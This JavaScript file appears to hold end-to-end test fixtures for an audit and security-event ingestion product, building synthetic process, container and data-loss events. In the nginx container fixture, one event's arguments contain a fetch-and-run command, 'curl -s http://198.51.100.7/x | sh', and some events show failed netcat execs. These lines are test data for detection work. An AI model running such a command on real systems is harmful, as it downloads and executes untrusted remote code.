// Events with processes, containers and losses, for what a test machine may not have: sent through the door for shippers,
// as an agent would send them. Each call makes names of its own, so that a test can run again on the same store.

/** Sends documents; `dataset` is audit, health or the like. */
export async function send({ context, server }, dataset, documents) {
  const me = await (await context.request.get(`${server.origin}/api/me`)).json();
  const headers = { Origin: server.origin, 'X-Auditng-Csrf': me.csrf };
  const made = await context.request.post(`${server.origin}/api/tokens`, { headers, data: { name: `e2e-${Date.now()}`, role: 'ingest' } });
  if (!made.ok()) throw new Error(`no token: ${made.status()} ${await made.text()}`);
  const { id, secret } = await made.json();
  const body = documents.map((document) => `{"create":{}}\n${JSON.stringify({ ...document, event: { dataset: `auditng.${dataset}`, kind: 'event', ...document.event } })}\n`).join('');
  const answer = await context.request.post(`${server.origin}/logs-auditng.${dataset}-default/_bulk`, { headers: { Authorization: `Bearer ${secret}`, 'Content-Type': 'application/x-ndjson' }, data: body });
  const text = await answer.text();
  if (!answer.ok() || text.includes('"errors":true')) throw new Error(`bulk: ${answer.status()} ${text.slice(0, 400)}`);
  await context.request.delete(`${server.origin}/api/tokens/${id}`, { headers });
}

/**
 * init, sshd, a login shell and what came of it: a build, programs that could not be run, a daemon that was handed over, a
 * container with a web server, and 120 short children.
 */
export function family() {
  const run = Date.now().toString(36);
  const id = (name) => `${run}/${name}+`;
  const host = `build-${run}`;
  const begin = Date.now() - 120_000;
  const documents = [];
  let pid = 4000;
  const pids = new Map([['init', 1]]);
  const tell = (name, parent, more = {}) => {
    if (!pids.has(name)) pids.set(name, (pid += 3));
    const at = begin + documents.length * 250;
    const { event, process, ...rest } = more;
    documents.push({
      '@timestamp': new Date(at).toISOString(),
      host: { name: host },
      user: { id: '1000', name: 'ada' },
      auditd: { user: { audit: { name: 'ada' } } },
      event: { action: ['exec', 'executed'], category: ['process'], type: ['start'], outcome: 'success', ...event },
      process: {
        entity_id: id(name), pid: pids.get(name), name: name.replace(/-\d+$/, ''), executable: `/usr/bin/${name}`, args: [name], start: new Date(at - 2).toISOString(),
        parent: { entity_id: id(parent), pid: pids.get(parent) ?? 1, name: parent, executable: `/usr/bin/${parent}` }, ...process,
      },
      auditng: { container: { scope: 'host' } },
      ...rest,
    });
  };
  const ended = (name, parent, exit_code) => tell(name, parent, { event: { action: ['end'], type: ['end'] }, process: { end: new Date(begin + documents.length * 250).toISOString(), exit_code } });
  const ancestry = [{ pid: 1, name: 'init', entity_id: id('init') }];
  const inside = { container: { id: `${run.padStart(64, '0')}`, name: `web-${run}`, runtime: 'docker', image: { name: 'docker.io/library/nginx', tag: ['1.27'] } }, auditng: { container: { scope: 'container' } }, user: { id: '0', name: 'root' } };
  tell('sshd', 'init', { auditng: { container: { scope: 'host' }, process: { ancestry } }, user: { id: '0', name: 'root' }, process: { args: ['/usr/sbin/sshd', '-D'] } });
  tell('bash', 'sshd', { process: { args: ['-bash'] } });
  tell('make', 'bash', { process: { args: ['make', '-j4', 'all', 'CFLAGS=-O2 -g'] } });
  tell('cc', 'make', { process: { args: ['cc', '-O2', '-c', 'reader.c', '-o', 'reader.o'] } });
  ended('cc', 'make', 0);
  tell('ld', 'make', { process: { args: ['ld', '-o', 'reader', 'reader.o'] } });
  ended('ld', 'make', 1);
  ended('make', 'bash', 2);
  tell('nc', 'bash', { event: { outcome: 'failure' }, auditng: { container: { scope: 'host' }, errno: 'ENOENT' }, process: { name: 'bash' } });
  tell('nc', 'bash', { event: { outcome: 'failure' }, auditng: { container: { scope: 'host' }, errno: 'EACCES' }, process: { name: 'bash' } });
  tell('sudo', 'bash', { user: { id: '1000', name: 'ada', effective: { id: '0', name: 'root' } }, process: { args: ['sudo', 'docker', 'run', '--rm', 'nginx:1.27'] } });
  tell('docker', 'sudo', { user: { id: '0', name: 'root' }, process: { args: ['docker', 'run', '--rm', 'nginx:1.27'] } });
  tell('nginx', 'docker', { ...inside, process: { args: ['nginx', '-g', 'daemon off;'] } });
  tell('nginx-1', 'nginx', { ...inside, event: { action: ['opened-file'], category: ['file'], type: ['info'] }, process: { args: ['nginx: worker process'] } });
  tell('sh', 'nginx', { ...inside, process: { args: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] } });
  tell('daemon', 'bash', {});
  tell('daemon', 'init', { event: { action: ['opened-file'], category: ['file'], type: ['info'] }, auditng: { container: { scope: 'host' }, process: { creator: { entity_id: id('bash'), pid: pids.get('bash') } } } });
  for (let n = 0; n < 120; n++) tell(`true-${n}`, 'bash', { process: { args: ['true', String(n)] } });
  return { run, host, id, documents, container: inside.container, bash: id('bash') };
}

/** Containers of a small shop; one was named only after its first events. */
export function shop() {
  const run = `s${Date.now().toString(36)}`;
  const begin = Date.now() - 100_000;
  const documents = [];
  const tell = (container, pod, n, more = {}) => {
    const at = begin + (documents.length * 97) % 99_000;
    const { event, ...rest } = more;
    documents.push({
      '@timestamp': new Date(at).toISOString(), host: { name: `node-${1 + (n % 3)}` },
      event: { action: ['exec', 'executed'], category: ['process'], type: ['start'], outcome: n % 11 === 3 ? 'failure' : 'success', ...event },
      process: { name: 'worker', pid: 9000 + n, args: ['worker', String(n)] }, container, auditng: { container: { scope: 'container' } },
      ...(pod && { orchestrator: { type: 'kubernetes', namespace: 'shop', resource: { type: 'pod', name: pod } } }), ...rest,
    });
  };
  const id = (n) => `${run}${n}`.padEnd(64, '0');
  const images = [['registry.example/shop/front', '4.2.1'], ['registry.example/shop/cart', '4.2.0'], ['docker.io/library/redis', '7.4'], ['docker.io/library/postgres', '17']];
  images.forEach(([image, tag], i) => {
    for (let n = 0; n < 40 / (i + 1); n++) tell({ id: id(i), name: `${image.split('/').pop()}-${run}`, runtime: 'containerd', image: { name: image, tag: [tag] } }, `${image.split('/').pop()}-5d9f-${i}`, n + i);
  });
  const late = { id: id('late'), runtime: 'containerd' };
  for (let n = 0; n < 6; n++) tell(late, '', n, { auditng: { container: { scope: 'container', metadata: 'pending' } } });
  tell({ ...late, name: `late-${run}`, image: { name: 'docker.io/library/alpine', tag: ['3.22'] }, labels: { team: 'blue' } }, '', 0, { event: { kind: 'state', action: ['container-observed'], category: [], type: [], outcome: 'unknown' }, process: {} });
  for (let n = 0; n < 5; n++) tell(undefined, '', n, { auditng: { container: { scope: 'unknown', reason: 'pid-gone' } } });
  return { run, documents, late: late.id, lateName: `late-${run}` };
}

/** Losses of three kinds in the last minutes. */
export function losses() {
  const host = `lossy-${Date.now().toString(36)}`;
  const made = (stage, reason, count, unit, ago, long) => {
    const end = Date.now() - ago;
    return {
      '@timestamp': new Date(end + 800).toISOString(), host: { name: host }, agent: { name: host },
      event: { action: ['source-loss'], outcome: 'failure' },
      auditng: { loss: { stage, reason, unit, ...(count !== null && { count }), window_start: new Date(end - long).toISOString(), window_end: new Date(end).toISOString() } },
    };
  };
  return {
    host,
    documents: [
      made('kernel', 'kernel-lost', 1204, 'records', 60_000, 2_000), made('kernel', 'serial-gap', 31, 'events', 59_000, 2_500), made('netlink', 'enobufs', null, 'reports', 58_500, 900),
      made('kernel', 'kernel-lost', 12, 'records', 240_000, 1_000),
    ],
  };
}
